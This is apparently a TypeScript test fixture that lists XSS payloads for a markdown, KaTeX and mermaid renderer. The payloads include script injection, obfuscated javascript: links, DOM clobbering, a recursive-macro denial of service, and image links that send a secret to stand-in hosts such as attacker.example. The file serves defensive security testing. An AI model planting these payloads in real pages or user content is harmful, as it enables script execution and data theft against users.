/**
 * The output-rendering payloads of the security catalogue (§4.D). Each calls `__pwned()` if it
 * ever executes. Shared by the unit tests and the e2e XSS spec.
 */
export const XSS_PAYLOADS: string[] = [
  '<script>__pwned()</script>',
  '<img src=x onerror=__pwned()>',
  '<svg onload=__pwned()>',
  '<svg><animate onbegin=__pwned() attributeName=x>',
  '[d4](javascript:__pwned())',
  '[d5a](JaVaScRiPt:__pwned())',
  '[d5b](java%0ascript:__pwned())',
  '[d5c](&#106;avascript:__pwned())',
  '[d6]( \x01javascript:__pwned())',
  '[d7](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+)',
  '![d8](javascript:__pwned())',
  '<a href="vbscript:msgbox(1)">d8b</a>',
  '[d9][r]\n\n[r]: javascript:__pwned()',
  '<javascript:__pwned()>',
  'javascript:__pwned()',
  '[d11](https://a.example "\\" onmouseover=__pwned() x=\\"")',
  '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  '<object data="javascript:__pwned()"></object>',
  '<embed src="javascript:__pwned()">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>',
  '<svg><style><img src=x onerror=__pwned()></style></svg>',
  '<form id=config><input name=apiBase value=//evil></form>',
  '<img name=getElementById>',
  '```"><img src=x onerror=__pwned()>\ncode\n```',
  '```html\n</code><script>__pwned()</script>\n```',
  '$\\href{javascript:__pwned()}{x}$',
  '$\\href{JAVASCRIPT:__pwned()}{x}$',
  '$\\url{javascript:__pwned()}$',
  '$\\htmlData{x=y}{z}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\rule{1000000em}{1000000em}$',
  '![exfil](https://attacker.example/p.png?d=SECRET)',
  '[ref-img]\n\n![a][ri]\n\n[ri]: https://attacker.example/ref.png',
  '\\(\\href{javascript:__pwned()}{x}\\)',
  '\\[\\includegraphics{https://evil.example/q.png}\\]',
]

/** A mermaid diagram that tries to lower security and inject HTML (D17–D19). */
export const MERMAID_PAYLOADS: string[] = [
  '```mermaid\n%%{init: {"securityLevel":"loose","flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<img src=x onerror=__pwned()>"] --> B\nclick A "javascript:__pwned()"\nclick B call __pwned()\n```',
  '```mermaid\nsequenceDiagram\nAlice->>Bob: <img src=x onerror=__pwned()>\n```',
  '```mermaid\nstateDiagram-v2\nclassDef bad fill:url(https://evil.example/x.png)\n[*] --> S1\nclass S1 bad\n```',
]
